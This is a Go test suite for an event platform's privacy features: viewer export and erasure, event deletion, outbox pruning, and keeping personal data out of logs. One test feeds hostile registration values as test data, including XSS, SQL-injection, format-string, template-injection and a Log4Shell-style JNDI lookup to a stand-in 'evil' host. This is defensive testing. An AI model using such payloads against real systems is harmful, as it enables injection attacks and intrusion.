package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/onair-live/onair/internal/notify/notifytest"
	"github.com/onair-live/onair/internal/store"
	"github.com/onair-live/onair/internal/store/storetest"
)

// ada is the viewer who asks for her data, and then to be forgotten.
var ada = map[string]string{"email": "Ada.Lovelace@example.com", "first_name": "Ada", "last_name": "Lovelace",
	"phone": "+1 415 555 0188", "company": "Analytical Engines", "source": "newsletter"}

// adaTraces give Ada away wherever they appear.
var adaTraces = []string{"ada.lovelace@", "4155550188", "lovelace", "analytical engines"}

// privacyFixture is an event starting in ten minutes (viewers on its watch
// page count as attending) with Ada and Bob registered, their confirmations
// in the outbox, and Ada's viewing, chat and purchase recorded.
type privacyFixture struct {
	token, eventID, adaID, adaWatch string
}

func newPrivacyFixture(t *testing.T, a *app) privacyFixture {
	t.Helper()
	var f privacyFixture
	f.token = a.signup()
	f.eventID = a.createEvent(f.token, map[string]any{
		"title": "Privacy Night", "scheduled_start": startsIn(10 * time.Minute).Format(time.RFC3339),
		"notification_settings": map[string]any{"email_enabled": true, "sms_enabled": true},
	})["id"].(string)
	out := a.expect(http.StatusCreated, "POST", "/api/events/"+f.eventID+"/register", "", ada)
	f.adaID = out["registration"].(map[string]any)["id"].(string)
	f.adaWatch = out["watch_url"].(string)
	a.expect(http.StatusCreated, "POST", "/api/events/"+f.eventID+"/register", "",
		map[string]string{"email": "bob@example.com", "first_name": "Bob", "phone": "+1 415 555 0189"})
	waitFor(t, 20*time.Second, "the four confirmations recorded as sent", func() (bool, string) {
		ns := a.notifications(f.token, f.eventID)
		email, sms := ns["confirmation/email"], ns["confirmation/sms"]
		return email != nil && sms != nil && email["sent_count"] == 2.0 && sms["sent_count"] == 2.0, fmt.Sprint(ns)
	})
	token := watchToken(t, f.adaWatch)
	a.expect(http.StatusOK, "POST", "/api/watch/"+f.eventID+"/heartbeat?token="+url.QueryEscape(token), "", map[string]any{})
	a.expect(http.StatusCreated, "POST", "/api/events/"+f.eventID+"/engagement", "", map[string]any{"token": token, "action": "chat"})
	a.expect(http.StatusCreated, "POST", "/api/events/"+f.eventID+"/revenue", f.token,
		map[string]any{"token": token, "amount_cents": 4900, "currency": "EUR"})
	return f
}

// watchToken is the token of a watch link.
func watchToken(t *testing.T, watch string) string {
	t.Helper()
	u, err := url.Parse(watch)
	if err != nil || u.Query().Get("token") == "" {
		t.Fatalf("watch link %q", watch)
	}
	return u.Query().Get("token")
}

// assertNoTraces fails for each of traces found in text (case-insensitive).
func assertNoTraces(t *testing.T, where, text string, traces []string) {
	t.Helper()
	lower := strings.ToLower(text)
	for _, tr := range traces {
		if strings.Contains(lower, strings.ToLower(tr)) {
			t.Errorf("%s shows %q:\n%s", where, tr, text)
		}
	}
}

func TestViewerExportAndErasure(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		a := startApp(t, dbURL, nil)
		f := newPrivacyFixture(t, a)
		adaEmail := url.QueryEscape("ADA.LOVELACE@example.com")

		t.Run("the export shows everything stored about her", func(t *testing.T) {
			out := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+adaEmail, f.token, nil)
			viewer := out["viewer"].(map[string]any)
			if viewer["email"] != ada["email"] || viewer["phone"] != "+14155550188" || viewer["company"] != ada["company"] {
				t.Errorf("viewer %v", viewer)
			}
			regs := out["registrations"].([]any)
			if len(regs) != 1 {
				t.Fatalf("registrations %v", regs)
			}
			r := regs[0].(map[string]any)
			reg := r["registration"].(map[string]any)
			ev := r["event"].(map[string]any)
			if reg["id"] != f.adaID || reg["last_name"] != "Lovelace" || reg["source"] != "newsletter" || reg["attended"] != true ||
				ev["id"] != f.eventID || ev["title"] != "Privacy Night" {
				t.Errorf("registration %v of event %v", reg, ev)
			}
			msgs := r["messages"].([]any)
			channels := map[any]bool{}
			for _, m := range msgs {
				m := m.(map[string]any)
				channels[m["channel"]] = m["kind"] == "confirmation" && m["status"] == "sent" && m["sent_at"] != nil
			}
			if len(msgs) != 2 || !channels["email"] || !channels["sms"] {
				t.Errorf("messages %v", msgs)
			}
			if len(r["sessions"].([]any)) != 1 || r["opens"] != 0.0 || r["clicks"] != 0.0 {
				t.Errorf("sessions %v, opens %v, clicks %v", r["sessions"], r["opens"], r["clicks"])
			}
			if e := r["engagement"].([]any); len(e) != 1 || e[0].(map[string]any)["action"] != "chat" {
				t.Errorf("engagement %v", e)
			}
			if p := r["purchases"].([]any); len(p) != 1 || p[0].(map[string]any)["amount_cents"] != 4900.0 {
				t.Errorf("purchases %v", p)
			}
		})
		t.Run("another host has nothing of her", func(t *testing.T) {
			out := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+adaEmail, a.signup(), nil)
			if regs := out["registrations"].([]any); len(regs) != 0 {
				t.Errorf("another host's export: %v", out)
			}
		})
		t.Run("a missing or invalid email is a 422 on email", func(t *testing.T) {
			for _, q := range []string{"", "?email=", "?email=not-an-address", "?email=" + url.QueryEscape("a@b@c")} {
				for _, route := range []struct{ method, path string }{{"GET", "/api/viewers/export"}, {"DELETE", "/api/viewers"}} {
					out := a.expect(http.StatusUnprocessableEntity, route.method, route.path+q, f.token, nil)
					if errField(out, "email") == "" {
						t.Errorf("%s %s%s: %v", route.method, route.path, q, out)
					}
				}
			}
			a.expect(http.StatusUnauthorized, "DELETE", "/api/viewers?email="+adaEmail, "", nil)
		})

		before := a.expect(http.StatusOK, "GET", "/api/events/"+f.eventID+"/analytics", f.token, nil)
		out := a.expect(http.StatusOK, "DELETE", "/api/viewers?email="+adaEmail, f.token, nil)
		if want := map[string]any{"erased": map[string]any{"registrations": 1.0}}; !reflect.DeepEqual(out, want) {
			t.Fatalf("erasure: %v; want %v", out, want)
		}

		t.Run("the analytics return the same numbers", func(t *testing.T) {
			after := a.expect(http.StatusOK, "GET", "/api/events/"+f.eventID+"/analytics", f.token, nil)
			if !reflect.DeepEqual(after, before) {
				t.Errorf("analytics changed:\nbefore %v\nafter  %v", before, after)
			}
			an := after["analytics"].(map[string]any)
			if an["registrations"] != 2.0 || an["attended"] != 1.0 || an["revenue_cents"] != 4900.0 {
				t.Errorf("analytics %v", an)
			}
		})
		t.Run("no list, CSV, search, export or outbox shows her", func(t *testing.T) {
			list := a.expect(http.StatusOK, "GET", "/api/events/"+f.eventID+"/registrations", f.token, nil)
			if list["total"] != 1.0 {
				t.Errorf("registrations %v", list)
			}
			_, raw, _ := a.raw("GET", "/api/events/"+f.eventID+"/registrations", f.token, nil)
			assertNoTraces(t, "the registrations", string(raw), adaTraces)
			_, csv, _ := a.raw("GET", "/api/events/"+f.eventID+"/registrations?format=csv", f.token, nil)
			assertNoTraces(t, "the CSV", string(csv), adaTraces)
			if !strings.Contains(string(csv), "bob@example.com") {
				t.Errorf("the CSV lost Bob:\n%s", csv)
			}
			for _, q := range []string{"ada", "lovelace", "analytical"} {
				if out := a.expect(http.StatusOK, "GET", "/api/events/"+f.eventID+"/registrations?q="+q, f.token, nil); out["total"] != 0.0 {
					t.Errorf("a search for %q: %v", q, out)
				}
			}
			export := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+adaEmail, f.token, nil)
			if regs := export["registrations"].([]any); len(regs) != 0 {
				t.Errorf("export after the erasure: %v", export)
			}
			_, outbox, _ := a.raw("GET", "/api/outbox?limit=100", f.token, nil)
			assertNoTraces(t, "the outbox", string(outbox), append(adaTraces, watchToken(t, f.adaWatch)))
			if !strings.Contains(string(outbox), "bob@example.com") {
				t.Errorf("the outbox lost Bob's messages:\n%s", outbox)
			}
		})
		t.Run("her watch link is dead", func(t *testing.T) {
			a.expect(http.StatusNotFound, "POST", "/api/watch/"+f.eventID+"/heartbeat?token="+url.QueryEscape(watchToken(t, f.adaWatch)), "", map[string]any{})
			if status, _, _ := a.get(f.adaWatch); status != http.StatusNotFound {
				t.Errorf("her watch link: %d", status)
			}
		})
		t.Run("erasing again erases nothing", func(t *testing.T) {
			out := a.expect(http.StatusOK, "DELETE", "/api/viewers?email="+adaEmail, f.token, nil)
			if out["erased"].(map[string]any)["registrations"] != 0.0 {
				t.Errorf("second erasure: %v", out)
			}
		})
		t.Run("the server log never named her", func(t *testing.T) {
			assertNoTraces(t, "the log", a.Log(), append(adaTraces, watchToken(t, f.adaWatch)))
		})
	})
}

// The dashboard's pages show the erased viewer nowhere: the event's
// registrants, her timeline, the outbox.
func TestErasedViewerLeavesThePages(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		a := startApp(t, dbURL, nil)
		b, token := dashSignup(t, a)
		f := newPrivacyFixture(t, a)
		// The fixture's host is not the dashboard's: make the event the
		// dashboard host's own by registering Ada there as well.
		id := a.createEvent(token, map[string]any{"title": "Dash Privacy", "scheduled_start": startsIn(time.Hour).Format(time.RFC3339)})["id"].(string)
		reg := a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", ada)["registration"].(map[string]any)
		waitFor(t, 20*time.Second, "the confirmation in the outbox", func() (bool, string) {
			out := a.expect(http.StatusOK, "GET", "/api/outbox?event_id="+id, token, nil)
			return out["total"] == 1.0, fmt.Sprint(out["total"])
		})
		timeline := "/dashboard/events/" + id + "/registrants/" + reg["id"].(string)
		if body := b.expect(http.StatusOK, timeline); !strings.Contains(body, "Lovelace") {
			t.Fatalf("her timeline before the erasure does not name her:\n%s", body)
		}
		a.expect(http.StatusOK, "DELETE", "/api/viewers?email="+url.QueryEscape(ada["email"]), token, nil)
		if status, _, _ := b.get(timeline); status != http.StatusNotFound {
			t.Errorf("her timeline after the erasure: %d", status)
		}
		for _, page := range []string{"/dashboard/events/" + id, "/dashboard/outbox", "/dashboard/events/" + id + "?q=ada"} {
			assertNoTraces(t, page, b.expect(http.StatusOK, page), adaTraces)
		}
		// The other host's registration of her stays.
		if out := a.expect(http.StatusOK, "GET", "/api/events/"+f.eventID+"/registrations", f.token, nil); out["total"] != 2.0 {
			t.Errorf("the other host's registrations: %v", out)
		}
	})
}

func TestViewerCommands(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		env := map[string]string{"DATABASE_URL": dbURL}
		out, _, err := runCLI(t, env, "host", "create", "--email", "cli-privacy@example.com", "--password", "a long password")
		if err != nil {
			t.Fatal(err)
		}
		token := strings.TrimSpace(out)
		a := startApp(t, dbURL, nil)
		id := a.createEvent(token, map[string]any{"title": "CLI Night"})["id"].(string)
		a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", ada)
		waitFor(t, 20*time.Second, "the confirmation recorded as sent", func() (bool, string) {
			n := a.notifications(token, id)["confirmation/email"]
			return n != nil && n["sent_count"] == 1.0, fmt.Sprint(n)
		})
		api := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+url.QueryEscape(ada["email"]), token, nil)

		t.Run("export prints what the API answers", func(t *testing.T) {
			stdout, _, err := runCLI(t, env, "viewer", "export", "--host-email", "CLI-PRIVACY@example.com", "--email", "ada.lovelace@EXAMPLE.com")
			if err != nil {
				t.Fatal(err)
			}
			var got map[string]any
			if err := json.Unmarshal([]byte(stdout), &got); err != nil {
				t.Fatalf("stdout is not JSON: %v\n%s", err, stdout)
			}
			if !reflect.DeepEqual(got, api) {
				t.Errorf("export:\n%v\nthe API:\n%v", got, api)
			}
		})
		t.Run("mistakes", func(t *testing.T) {
			var ue usageError
			for _, args := range [][]string{
				{"viewer"}, {"viewer", "forget"}, {"viewer", "export", "--email", "x@example.com"},
				{"viewer", "erase", "--host-email", "cli-privacy@example.com"},
				{"viewer", "erase", "--host-email", "cli-privacy@example.com", "--email", "not-an-address"},
			} {
				if _, _, err := runCLI(t, env, args...); !errors.As(err, &ue) {
					t.Errorf("%v: %v; want a usage error", args, err)
				}
			}
			_, _, err := runCLI(t, env, "viewer", "export", "--host-email", "nobody@example.com", "--email", "x@example.com")
			if err == nil || !strings.Contains(err.Error(), "no host") {
				t.Errorf("an unknown host: %v", err)
			}
		})
		t.Run("erase prints what it erased, and the API has nothing left", func(t *testing.T) {
			stdout, _, err := runCLI(t, env, "viewer", "erase", "--host-email", "cli-privacy@example.com", "--email", ada["email"])
			if err != nil || strings.TrimSpace(stdout) != `{"erased":{"registrations":1}}` {
				t.Fatalf("erase: %v %q", err, stdout)
			}
			out := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+url.QueryEscape(ada["email"]), token, nil)
			if len(out["registrations"].([]any)) != 0 {
				t.Errorf("export after erase: %v", out)
			}
			stdout, _, err = runCLI(t, env, "viewer", "export", "--host-email", "cli-privacy@example.com", "--email", ada["email"])
			if err != nil {
				t.Fatal(err)
			}
			assertNoTraces(t, "the export", strings.ReplaceAll(stdout, ada["email"], ""), adaTraces)
			_, csv, _ := a.raw("GET", "/api/events/"+id+"/registrations?format=csv", token, nil)
			assertNoTraces(t, "the CSV", string(csv), adaTraces)
		})
		t.Run("help", func(t *testing.T) {
			for _, args := range [][]string{{"viewer", "--help"}, {"viewer", "export", "--help"}, {"viewer", "erase", "-h"}} {
				out, _, err := runCLI(t, nil, args...)
				if err != nil || !strings.Contains(out, "Usage") || !strings.Contains(out, "--email") && !strings.Contains(out, "-email") {
					t.Errorf("%v: %v %q", args, err, out)
				}
			}
		})
	})
}

func TestDeleteEvent(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		a := startApp(t, dbURL, nil)
		token := a.signup()
		// A reminder an hour ahead: its dispatch job is queued.
		start := a.startsAt(2 * time.Hour)
		id := a.createEvent(token, map[string]any{"scheduled_start": start.Format(time.RFC3339),
			"selected_intervals": []string{"1h", "now"}})["id"].(string)
		kept := a.createEvent(token, nil)["id"].(string)
		a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", ada)
		a.expect(http.StatusCreated, "POST", "/api/events/"+kept+"/register", "", map[string]string{"email": "bob@example.com"})
		waitFor(t, 20*time.Second, "both confirmations in the outbox", func() (bool, string) {
			out := a.expect(http.StatusOK, "GET", "/api/outbox", token, nil)
			return out["total"] == 2.0, fmt.Sprint(out["total"])
		})

		out := a.expect(http.StatusConflict, "DELETE", "/api/events/"+id, token, nil)
		if errCode(out) != "event_not_over" || !strings.Contains(out["error"].(map[string]any)["message"].(string), "cancel it first") {
			t.Errorf("deleting a scheduled event: %v", out)
		}
		a.expect(http.StatusNotFound, "DELETE", "/api/events/"+id, a.signup(), nil)
		a.expect(http.StatusOK, "POST", "/api/events/"+id+"/cancel", token, nil)
		if status, raw, _ := a.raw("DELETE", "/api/events/"+id, token, nil); status != http.StatusNoContent || len(raw) != 0 {
			t.Fatalf("DELETE: %d %q", status, raw)
		}
		a.expect(http.StatusNotFound, "GET", "/api/events/"+id, token, nil)
		a.expect(http.StatusNotFound, "GET", "/api/events/"+id+"/registrations", token, nil)
		a.expect(http.StatusNotFound, "DELETE", "/api/events/"+id, token, nil)
		outbox := a.expect(http.StatusOK, "GET", "/api/outbox", token, nil)
		if outbox["total"] != 1.0 {
			t.Errorf("the outbox after the deletion: %v", outbox)
		}
		if out := a.expect(http.StatusOK, "GET", "/api/events/"+kept+"/registrations", token, nil); out["total"] != 1.0 {
			t.Errorf("the other event: %v", out)
		}
		export := a.expect(http.StatusOK, "GET", "/api/viewers/export?email="+url.QueryEscape(ada["email"]), token, nil)
		if len(export["registrations"].([]any)) != 0 || export["viewer"].(map[string]any)["last_name"] != nil {
			t.Errorf("the export of a viewer of the deleted event only: %v", export)
		}
		// Past the reminder's and the start's times, with the queue idle:
		// nothing failed on the rows that went.
		a.advanceTo(start.Add(time.Second))
		a.waitIdle()
		faultWaitQueueIdle(t, dbURL)
		a.expect(http.StatusOK, "POST", "/api/events/"+kept+"/start", token, nil) // the workers still run
		for _, line := range strings.Split(a.Log(), "\n") {
			if strings.Contains(line, "level=ERROR") || strings.Contains(line, "errored") {
				t.Errorf("log: %s", line)
			}
		}

		t.Run("on the event page, once the event is over", func(t *testing.T) {
			a := dashApp(a, t)
			host, token := dashSignup(t, a)
			id := a.createEvent(token, map[string]any{"title": "Old Launch"})["id"].(string)
			a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", ada)
			form := `action="/dashboard/events/` + id + `/delete"`
			if strings.Contains(host.expect(http.StatusOK, "/dashboard/events/"+id), form) {
				t.Error("a scheduled event offers its deletion")
			}
			if status, body, _ := host.post("/dashboard/events/"+id+"/delete", url.Values{}, true); status != http.StatusConflict ||
				!strings.Contains(body, "cancel it first") {
				t.Errorf("deleting a scheduled event on its page: %d", status)
			}
			a.expect(http.StatusOK, "POST", "/api/events/"+id+"/cancel", token, nil)
			if page := host.expect(http.StatusOK, "/dashboard/events/"+id); !strings.Contains(page, form) || !strings.Contains(page, "This cannot be undone.") {
				t.Fatal("a cancelled event offers no deletion")
			}
			if status, _, _ := host.post("/dashboard/events/"+id+"/delete", url.Values{}, false); status != http.StatusForbidden {
				t.Errorf("without the CSRF token: %d", status)
			}
			status, _, h := host.post("/dashboard/events/"+id+"/delete", url.Values{}, true)
			if loc := h.Get("Location"); status != http.StatusSeeOther || loc != "/dashboard/events?done=deleted" {
				t.Fatalf("delete on the page: %d to %q", status, loc)
			}
			if list := host.expect(http.StatusOK, "/dashboard/events?done=deleted"); !strings.Contains(list, "The event is deleted") || strings.Contains(list, "Old Launch") {
				t.Error("the events list after the deletion shows no flash, or the event")
			}
			a.expect(http.StatusNotFound, "GET", "/api/events/"+id, token, nil)
			host.expect(http.StatusNotFound, "/dashboard/events/"+id)
		})
	})
}

func TestOutboxPrunedByAge(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		a := startApp(t, dbURL, nil)
		token := a.signup()
		id := a.createEvent(token, nil)["id"].(string)
		for _, email := range []string{"old@example.com", "new@example.com"} {
			a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", map[string]string{"email": email})
		}
		waitFor(t, 20*time.Second, "two confirmations in the outbox", func() (bool, string) {
			out := a.expect(http.StatusOK, "GET", "/api/outbox", token, nil)
			return out["total"] == 2.0, fmt.Sprint(out["total"])
		})
		a.Stop()
		// One of them has been there for 8 days.
		st := storetest.Open(t, dbURL)
		if _, err := st.DB().ExecContext(t.Context(), `UPDATE outbox_messages SET created_at = $1 WHERE recipient = 'old@example.com'`,
			time.Now().Add(-8*24*time.Hour).UnixMicro()); err != nil {
			t.Fatal(err)
		}
		st.Close()

		a = startApp(t, dbURL, map[string]string{"ONAIR_OUTBOX_DAYS": "7"})
		waitFor(t, 30*time.Second, "the old entry pruned", func() (bool, string) {
			out := a.expect(http.StatusOK, "GET", "/api/outbox", token, nil)
			return out["total"] == 1.0, fmt.Sprint(out["messages"])
		})
		msgs := a.expect(http.StatusOK, "GET", "/api/outbox", token, nil)["messages"].([]any)
		if to := msgs[0].(map[string]any)["to"]; to != "new@example.com" {
			t.Errorf("the entry kept is for %v", to)
		}
	})
}

// A provider outage is a few log lines, not one per message per retry.
func TestProviderOutageLogsAFewLines(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		srv := notifytest.NewSMTPServer(t)
		a := startApp(t, dbURL, map[string]string{"SMTP_URL": srv.URL()})
		token := a.signup()
		id := a.createEvent(token, nil)["id"].(string)
		srv.FailAllRecipients(451) // try again later, naming the recipient
		const viewers = 30
		for i := range viewers {
			a.expect(http.StatusCreated, "POST", "/api/events/"+id+"/register", "", map[string]string{"email": fmt.Sprintf("outage%d@example.com", i)})
		}
		// Every confirmation fails, and is retried a second later, and two
		// seconds after that: the clock moves past each wait.
		waitFor(t, 30*time.Second, "the first failures", func() (bool, string) {
			return strings.Contains(a.Log(), "provider failing"), a.Log()
		})
		st := storetest.Open(t, dbURL)
		waitFor(t, 60*time.Second, "every confirmation to fail once", func() (bool, string) {
			return minAttempts(t, st) >= 1, fmt.Sprintf("fewest attempts: %d", minAttempts(t, st))
		})
		a.waitIdle()
		a.advance(time.Second)
		waitFor(t, 60*time.Second, "every confirmation to fail twice", func() (bool, string) {
			return minAttempts(t, st) >= 2, fmt.Sprintf("fewest attempts: %d", minAttempts(t, st))
		})
		a.waitIdle()
		srv.ClearFailures()
		a.advance(2 * time.Second)
		srv.WaitFor(viewers, 60*time.Second)

		var outage []string
		for _, line := range strings.Split(a.Log(), "\n") {
			if strings.Contains(line, "level=WARN") || strings.Contains(line, "level=ERROR") || strings.Contains(line, "provider") {
				outage = append(outage, line)
			}
		}
		if len(outage) > 3 || testing.Verbose() {
			t.Logf("the outage of 30 confirmations wrote %d log lines:\n%s", len(outage), strings.Join(outage, "\n"))
		}
		if len(outage) > 3 {
			t.Errorf("the outage wrote %d lines; want at most 3", len(outage))
		}
		if !strings.Contains(a.Log(), "provider failing") {
			t.Errorf("the outage was not logged:\n%s", a.Log())
		}
		assertNoTraces(t, "the log", a.Log(), []string{"outage0@", "@example.com>"})
	})
}

// minAttempts is how often the least tried delivery has been tried.
func minAttempts(t *testing.T, st *store.Store) int {
	t.Helper()
	var n int
	if err := st.DB().QueryRowContext(t.Context(), `SELECT COALESCE(MIN(attempts), 0) FROM deliveries`).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// A run with hostile registrations, failing providers that echo the
// recipient, and viewers following their links leaves no email address,
// phone number or token in any line of the server's log.
func TestNoPersonalDataInTheLog(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, dbURL string) {
		srv := notifytest.NewSMTPServer(t)
		tw := notifytest.NewTwilio(t, testTwilioSID, testTwilioToken)
		a := startApp(t, dbURL, twilioEnv(tw, map[string]string{"SMTP_URL": srv.URL(), "CRON_SECRET": "cron-secret-for-the-test"}))
		token := a.signup()
		id := a.createEvent(token, map[string]any{
			"scheduled_start":       startsIn(10 * time.Minute).Format(time.RFC3339),
			"notification_settings": map[string]any{"email_enabled": true, "sms_enabled": true},
		})["id"].(string)

		secrets := []string{token}
		viewers := []map[string]string{
			{"email": "o'brien+tag@example.com", "first_name": "<script>alert(1)</script>", "phone": "+1 415 555 0101"},
			{"email": "bounce.me@example.org", "first_name": "Robert'); DROP TABLE registrations;--", "phone": "+14155550102"},
			{"email": "retry.later@example.net", "last_name": "%s%n%x", "company": "\u202egnp.exe", "phone": "+1 415 555 0103"},
			{"email": "jürgen@bücher.example", "first_name": "Jürgen", "phone": "+49 30 901820"},
			{"email": "x@example.com", "first_name": "{{.Secret}}", "company": "${jndi:ldap://evil}"},
		}
		srv.FailRecipient("bounce.me@example.org", 550)
		srv.FailRecipient("retry.later@example.net", 451)
		tw.InvalidNumber("+14155550102")
		for _, v := range viewers {
			status, out := a.do("POST", "/api/events/"+id+"/register", "", v)
			if status != http.StatusCreated {
				// Refused input is part of the run; what it says must not
				// reach the log either.
				secrets = append(secrets, v["email"])
				continue
			}
			watch := out["watch_url"].(string)
			tok := watchToken(t, watch)
			secrets = append(secrets, tok, v["email"])
			a.get(watch)
			a.do("POST", "/api/watch/"+id+"/heartbeat?token="+url.QueryEscape(tok), "", map[string]any{})
			a.do("POST", "/api/events/"+id+"/engagement", "", map[string]any{"token": tok, "action": "poll"})
			a.do("POST", "/api/watch/"+id+"/heartbeat?token="+url.QueryEscape(tok[:len(tok)-1]), "", map[string]any{})
			a.do("POST", "/api/events/"+id+"/register", "", v) // again: 409, confirmation sent again
		}
		for _, p := range []string{"+14155550101", "+14155550102", "+14155550103", "+4930901820"} {
			secrets = append(secrets, p, strings.TrimPrefix(p, "+"))
		}
		// Bad input of every kind.
		for _, body := range []any{`{"email": "not an address"}`, map[string]string{"email": "a@b.c", "phone": "+999 123"},
			`{"email": "` + strings.Repeat("z", 300) + `@example.com"}`, "\xff\xfe"} {
			a.do("POST", "/api/events/"+id+"/register", "", body)
		}
		a.do("GET", "/api/viewers/export?email="+url.QueryEscape("o'brien+tag@example.com"), token, nil)
		a.do("POST", "/api/cron/send-notifications", "cron-secret-for-the-test", nil)
		waitFor(t, 30*time.Second, "the messages to be sent or failed", func() (bool, string) {
			n := a.notifications(token, id)["confirmation/email"]
			return n != nil && n["failed_count"] != 0.0 && len(tw.Requests()) > 0, fmt.Sprint(n)
		})
		st := storetest.Open(t, dbURL)
		waitFor(t, 60*time.Second, "the 451 to be met and the delivery held for a retry", func() (bool, string) {
			var n int
			if err := st.DB().QueryRowContext(t.Context(),
				`SELECT COUNT(*) FROM deliveries WHERE status = 'pending' AND attempts >= 1`).Scan(&n); err != nil {
				t.Fatal(err)
			}
			return n > 0, fmt.Sprintf("%d deliveries held for a retry", n)
		})
		a.do("DELETE", "/api/viewers?email="+url.QueryEscape("x@example.com"), token, nil)
		a.Stop()

		log := a.Log()
		if !strings.Contains(log, "onair listening") {
			t.Fatalf("no log read:\n%s", log)
		}
		lower := strings.ToLower(log)
		for _, s := range secrets {
			if strings.Contains(lower, strings.ToLower(s)) {
				t.Errorf("the log shows %q", s)
			}
		}
		if strings.Contains(log, "@example") || strings.Contains(log, "@bücher") {
			t.Errorf("the log shows an address:\n%s", log)
		}
		if t.Failed() || testing.Verbose() {
			t.Logf("log:\n%s", log)
		}
	})
}
